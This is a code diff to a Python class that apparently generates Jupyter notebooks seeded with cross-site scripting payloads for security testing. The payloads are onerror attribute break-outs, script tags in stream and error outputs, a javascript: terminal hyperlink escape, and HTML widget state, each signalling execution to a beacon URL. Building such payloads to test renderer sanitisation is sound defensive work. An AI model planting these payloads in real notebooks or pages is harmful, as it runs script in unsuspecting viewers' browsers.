@@ -23,7 +23,7 @@ class Payloads:
         self.beacon = beacon
 
     def run(self, name: str) -> str:
-        return f"new Image().src='{self.beacon}/{name}'"
+        return f"void(new Image().src='{self.beacon}/{name}')"
 
     def pages(self, place: str) -> dict[str, str]:
         """Payloads in HTML, wherever HTML may stand."""
@@ -74,7 +74,9 @@ class Payloads:
             "quoted": {"image/png": f'" onerror="{self.run("output-quoted")}'},
             "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2}},
         }
-        shown = {name: {"output_type": "display_data", "data": kind, "metadata": {}} for name, kind in data.items()}
+        shown = {
+            name: {"output_type": "display_data", "data": kind, "metadata": {}} for name, kind in data.items()
+        }
         script = f"\x1b]8;;javascript:1\x07<script>{self.run('output-stream')}</script>\x1b[31mred"
         shown["stream"] = {"output_type": "stream", "name": "stdout", "text": script}
         shown["error"] = {"output_type": "error", "ename": script, "evalue": script, "traceback": [script]}
@@ -85,7 +87,9 @@ class Payloads:
         shown = [new_output(**output) for output in self.outputs().values()]
         texts = [new_markdown_cell(text) for name, text in self.texts().items() if name != "attachment"]
         raws = [new_raw_cell(page) for page in self.pages("raw").values()]
-        state = {"state": {"a": {"model_name": "HTMLModel", "state": {"value": self.pages("widget")["onerror"]}}}}
+        state = {
+            "state": {"a": {"model_name": "HTMLModel", "state": {"value": self.pages("widget")["onerror"]}}}
+        }
         widgets = {"application/vnd.jupyter.widget-state+json": {**state, "version_major": 2}}
         cells = [*texts, *raws, new_code_cell("1", outputs=shown)]
         return new_notebook(cells=cells, metadata={"widgets": widgets})
